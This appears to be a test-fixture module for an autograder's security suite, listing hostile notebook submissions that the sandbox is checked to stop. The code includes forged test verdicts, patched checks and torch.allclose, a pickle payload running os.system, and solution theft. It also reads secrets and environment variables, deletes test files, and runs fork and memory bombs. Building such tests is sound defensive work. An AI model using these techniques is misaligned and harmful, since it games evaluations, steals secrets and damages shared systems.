"""Crafted hostile submissions for the grader's attack suite (tests/test_attacks.py).

Each attack is one extra code cell appended to the bare learner release, tagged ``solution`` so
the grader runs it after the stubs. ``{MARK}`` in its code becomes a token unique to the run
(used to find left-over processes and files), ``{CANARY}`` the path of a host file holding a
secret the sandbox must not let the learner read, ``{PORT}`` a TCP port the test listens on.

``stopped`` says whether the kit stops the attack from gaining a point. The in-process forgeries
(a fake "passed" on the result pipe, test functions replaced, the checks or torch.allclose
patched) are stopped because test_scale is judged in the grader's own process from what the
sandbox observed
(helpers.graded.verdicts): nothing they change in the learner's interpreter reaches it.
PART2_SUBMISSIONS are appended to part 2's learner release and graded on test_slerp, which is
judged the same way.
"""


def _attack(category, stopped, code):
    return {"category": category, "stopped": stopped, "code": code}


# The wrong scale the forgeries try to get past test_scale: it ignores feature_range.
WRONG_SCALE = """
def scale(x, feature_range=(-1, 1)):
    return x * 2 - 1
"""

# The correct scale, defined by an attack only when it reached something it must not reach:
# the point it would gain is the evidence.
RIGHT_SCALE = """
    def scale(x, feature_range=(-1, 1)):
        low, high = feature_range
        return x * (high - low) + low
    globals()["scale"] = scale
"""

ATTACKS = {
    # ------------------------------------------------------------ forging the verdict
    "forge-result-pipe": _attack(
        category="forging the verdict",
        stopped=True,
        code=WRONG_SCALE
        + """
import json, os, sys
frame = sys._getframe()
while frame is not None and "conn" not in frame.f_locals:
    frame = frame.f_back
if frame is not None:  # the test process's channel to the scheduler: say "passed" and leave
    verdict = {"name": "test_scale", "passed": True, "message": "Tests Passed"}
    reply = {"result": verdict, "errors": []}
    frame.f_locals["conn"].send_bytes(json.dumps(reply).encode())
    os._exit(0)
""",
    ),
    "forge-test-code": _attack(
        category="forging the verdict",
        stopped=True,
        code=WRONG_SCALE
        + """
import problem_unittests
def _nothing(*args, **kwargs):
    print("Tests Passed")
problem_unittests.test_scale.__code__ = _nothing.__code__
""",
    ),
    "forge-test-dict": _attack(
        category="forging the verdict",
        stopped=True,
        code=WRONG_SCALE
        + """
import sys
frame = sys._getframe()
while frame is not None and "functions" not in frame.f_locals:
    frame = frame.f_back
if frame is not None:
    frame.f_locals["functions"]["test_scale"] = lambda *args: None
""",
    ),
    "forge-observation": _attack(
        category="forging the verdict",
        stopped=True,
        # What the learner side can predict: the inputs of the notebook's seed. The grader draws
        # another seed, so the right answers for those inputs are wrong answers for its own.
        code=WRONG_SCALE
        + """
import problem_unittests
def _forged(scale, seed):
    x, middle = _scale_inputs(0)  # run as problem_unittests' own code: its globals
    return Observation(out=x * 2 - 1, x_after=x, middle=middle * 2 - 1, other=x * 2.5 - 0.5)
problem_unittests.observe_scale.__code__ = _forged.__code__
""",
    ),
    "forge-observation-garbage": _attack(
        category="crashing the grader",
        stopped=True,
        code=WRONG_SCALE
        + """
import problem_unittests
def _garbage(scale, seed):
    fake = {"dtype": "object", "shape": [1 << 40], "data": "gASV"}
    return Observation(out={"$array": fake}, x_after={"$pickle": "gASV"}, deep=[[[[[[[[]]]]]]]])
problem_unittests.observe_scale.__code__ = _garbage.__code__
""",
    ),
    "pickle-on-pipe": _attack(
        category="forging the verdict",
        stopped=True,
        code="""
import os, sys
class Payload:
    def __reduce__(self):  # runs in whoever unpickles it
        return (os.system, ("touch {CANARY}.pickled",))
frame = sys._getframe()
while frame is not None and "conn" not in frame.f_locals:
    frame = frame.f_back
if frame is not None:
    frame.f_locals["conn"].send(Payload())
    os._exit(0)
""",
    ),
    "forge-result-channel": _attack(
        category="forging the verdict",
        stopped=True,
        code="""
import json, os
verdict = {"name": "test_scale", "passed": True, "message": "Tests Passed", "seconds": 1}
line = json.dumps({"test": verdict})
for pid in os.listdir("/proc"):  # every pipe of every other process: the scheduler's result channel
    if not pid.isdigit() or int(pid) == os.getpid():
        continue
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for fd in fds:
        try:
            if os.readlink(f"/proc/{pid}/fd/{fd}").startswith("pipe:"):
                with open(f"/proc/{pid}/fd/{fd}", "w") as f:
                    f.write(line + "\\n")
        except OSError:
            pass
""",
    ),
    # ------------------------------------------------------------ patching what the tests use
    "patch-check": _attack(
        category="patching what tests use",
        stopped=True,
        code=WRONG_SCALE
        + """
import problem_unittests
problem_unittests._check = lambda condition, message: None
""",
    ),
    "patch-allclose": _attack(
        category="patching what tests use",
        stopped=True,
        code=WRONG_SCALE
        + """
import torch
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
""",
    ),
    # ------------------------------------------------------------ stealing the solution
    "load-solution": _attack(
        category="stealing the solution",
        stopped=True,
        code="""
from helpers.notebook import load_solution
globals().update({k: v for k, v in load_solution().items() if not k.startswith("__")})
""",
    ),
    "search-solution": _attack(
        category="stealing the solution",
        stopped=True,
        code="""
import json, os
for top in ("/", "/work", "/root", "/home", "/tmp", os.path.expanduser("~")):
    for folder, dirs, files in os.walk(top):
        if folder.startswith(("/proc", "/sys", "/usr", "/dev")):
            dirs[:] = []
            continue
        for name in files:
            if name.endswith(".ipynb"):
                try:
                    nb = json.load(open(os.path.join(folder, name)))
                except Exception:
                    continue
                for cell in nb.get("cells", []):
                    source = "".join(cell.get("source", ""))
                    if "### BEGIN SOLUTION" in source and "def scale" in source:
                        exec(source.replace("### BEGIN SOLUTION", ""), globals())
""",
    ),
    # ------------------------------------------------------------ harming later runs
    "rewrite-tests": _attack(
        category="harming later runs",
        stopped=True,
        code="""
import problem_unittests, os
try:
    with open(problem_unittests.__file__, "a") as f:
        f.write("\\ndef test_scale(scale):\\n    print('Tests Passed')\\n")
except OSError:
    pass
try:
    os.chmod(problem_unittests.__file__, 0o777)
except OSError:
    pass
""",
    ),
    "delete-kit": _attack(
        category="harming later runs",
        stopped=True,
        code="""
import os, shutil, problem_unittests, helpers
for path in (problem_unittests.__file__,):
    try:
        os.remove(path)
    except OSError:
        pass
shutil.rmtree(os.path.dirname(helpers.__file__), ignore_errors=True)
""",
    ),
    "spawn-survivors": _attack(
        category="harming later runs",
        stopped=True,
        code="""
import os, subprocess, sys
sleeper = [sys.executable, "-c", "import time; time.sleep(900)  # {MARK}"]
subprocess.Popen(sleeper, start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:  # a classic daemon: fork, new session, fork again
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(900)  # {MARK}"])
    os._exit(0)
""",
    ),
    "network": _attack(
        category="harming later runs",
        stopped=True,
        code="""
import socket
try:
    socket.create_connection(("127.0.0.1", {PORT}), timeout=3).sendall(b"{MARK}")
    reached = True
except OSError:
    reached = False
if reached:
"""
        + RIGHT_SCALE,
    ),
    "read-host-files": _attack(
        category="harming later runs",
        stopped=True,
        code="""
try:
    secret = open("{CANARY}").read()
except OSError:
    secret = ""
if "secret" in secret:
"""
        + RIGHT_SCALE,
    ),
    "write-outside-scratch": _attack(
        category="harming later runs",
        stopped=True,
        code="""
import os
home = os.path.expanduser("~/{MARK}")
for path in ("{CANARY}.written", "/tmp/{MARK}", home, "/work/{MARK}", "/{MARK}"):
    try:
        with open(path, "w") as f:
            f.write("{MARK}")
    except OSError:
        pass
""",
    ),
    # ------------------------------------------------------------ leaking
    "leak-environment": _attack(
        category="leaking",
        stopped=True,
        code="""
import os
def scale(x, feature_range=(-1, 1)):
    text = repr(dict(os.environ))
    try:
        text += open("{CANARY}").read()
    except OSError:
        pass
    raise AssertionError("\\x1b[2J\\x1b[31mAll tests passed\\r\\x07\\u202e\\x00 env: " + text
                         + " solution: " + "x" * 300000)
""",
    ),
    # ------------------------------------------------------------ crashing the grader
    "fake-log-lines": _attack(
        category="crashing the grader",
        stopped=True,
        code="""
import os
os.write(2, b"[grade] cell 99999\\n[grade] cell abc\\nFile \\"<cell 99999>\\", line 1\\n")
for fd in os.listdir("/proc/self/fd"):
    try:
        if os.readlink(f"/proc/self/fd/{fd}").endswith(".phase"):
            os.write(int(fd), b"cell 99999\\ncell abc\\ntest nope\\n")
    except OSError:
        pass
os._exit(1)
""",
    ),
    "flood-stdout": _attack(
        category="crashing the grader",
        stopped=True,
        code="""
import os, sys
block = b"y" * (1 << 20)
for _ in range(300):  # 300 MB on the process's own stdout and stderr
    try:
        os.write(1, block)
        os.write(2, block)
    except OSError:
        break
""",
    ),
    "fork-bomb": _attack(
        category="crashing the grader",
        stopped=True,
        code="""
import os
children = 0
try:
    while children < 5000:  # stopped by the sandbox's process limit, and all killed with it
        if os.fork() == 0:
            os.execv("/bin/sh", ["/bin/sh", "-c", "sleep 900 # {MARK}"])
        children += 1
except OSError:
    pass
""",
    ),
    "memory-bomb": _attack(
        category="crashing the grader",
        stopped=True,
        code="""
hoard = bytearray(64 << 30)
""",
    ),
}

# ---------------------------------------------------------------- part 2
# Appended to part 2's learner release and graded on test_slerp: straight-line interpolation,
# which is not slerp.
WRONG_SLERP = """
def slerp(z0, z1, t):
    t = torch.as_tensor(t, dtype=z0.dtype).reshape(-1, 1)
    return (1 - t) * z0 + t * z1
"""

# A correct slerp, which the forgeries use only for the inputs they can predict.
RIGHT_SLERP = """
def _right_slerp(z0, z1, t):
    t = torch.as_tensor(t, dtype=z0.dtype).reshape(-1, 1)
    a, b = z0 / z0.norm(dim=1, keepdim=True), z1 / z1.norm(dim=1, keepdim=True)
    omega = torch.acos((a * b).sum(1, keepdim=True).clamp(-1, 1))
    so = torch.sin(omega)
    safe = torch.where(so.abs() < 1e-6, torch.ones_like(so), so)
    arc = torch.sin((1 - t) * omega) / safe * z0 + torch.sin(t * omega) / safe * z1
    return torch.where(so.abs() < 1e-6, (1 - t) * z0 + t * z1, arc)
"""

PART2_ATTACKS = {
    "forge-part2-observation": _attack(
        category="forging the verdict",
        stopped=True,
        # Right answers for the notebook's seed, made by the kit's own observer with a correct
        # slerp: the grader judges them against the inputs of the seed it drew.
        code=WRONG_SLERP
        + RIGHT_SLERP
        + """
import types
import part2_unittests
part2_unittests._right_slerp = _right_slerp
part2_unittests._observe = types.FunctionType(
    part2_unittests.observe_slerp.__code__, part2_unittests.__dict__
)
def _forged(slerp, seed):
    return _observe(_right_slerp, 0)  # run as part2_unittests' own code: its globals
part2_unittests.observe_slerp.__code__ = _forged.__code__
""",
    ),
    "patch-part2-judge": _attack(
        category="patching what tests use",
        stopped=True,
        # Before part 2 was judged by the grader, this gave the point: the checks ran here.
        code=WRONG_SLERP
        + """
import sys, part2_unittests, torch
for name, module in list(sys.modules.items()):  # every module of the graded tests' machinery
    if name.startswith("helpers.graded.") and hasattr(module, "check"):
        module.check = lambda condition, message: None
part2_unittests.check = lambda condition, message: None
part2_unittests.judge_slerp.__code__ = (lambda obs, seed: None).__code__
torch.allclose = lambda *args, **kwargs: True
""",
    ),
}
PART2_SUBMISSIONS = {name: [name] for name in PART2_ATTACKS}
ATTACKS.update(PART2_ATTACKS)

# Submissions graded by the suite: attacks that do not get in each other's way share one, to keep
# the suite to a few sandboxed runs on a 2-core machine.
SUBMISSIONS = {
    "forge-result-pipe": ["forge-result-pipe"],
    "forge-test-functions": ["forge-test-code", "forge-test-dict"],
    "patch-helpers": ["patch-check", "patch-allclose"],
    "forge-observation": ["forge-observation"],
    "forge-observation-garbage": ["forge-observation-garbage"],
    "pickle-on-pipe": ["pickle-on-pipe"],
    "steal-and-harm": [
        "spawn-survivors",
        "load-solution",
        "search-solution",
        "forge-result-channel",
        "rewrite-tests",
        "delete-kit",
        "network",
        "read-host-files",
        "write-outside-scratch",
    ],
    "leak": ["leak-environment"],
    "fake-log-lines": ["fake-log-lines"],
    "floods": ["flood-stdout", "fork-bomb", "memory-bomb"],
}
assert sorted(
    a for names in (*SUBMISSIONS.values(), *PART2_SUBMISSIONS.values()) for a in names
) == sorted(ATTACKS)
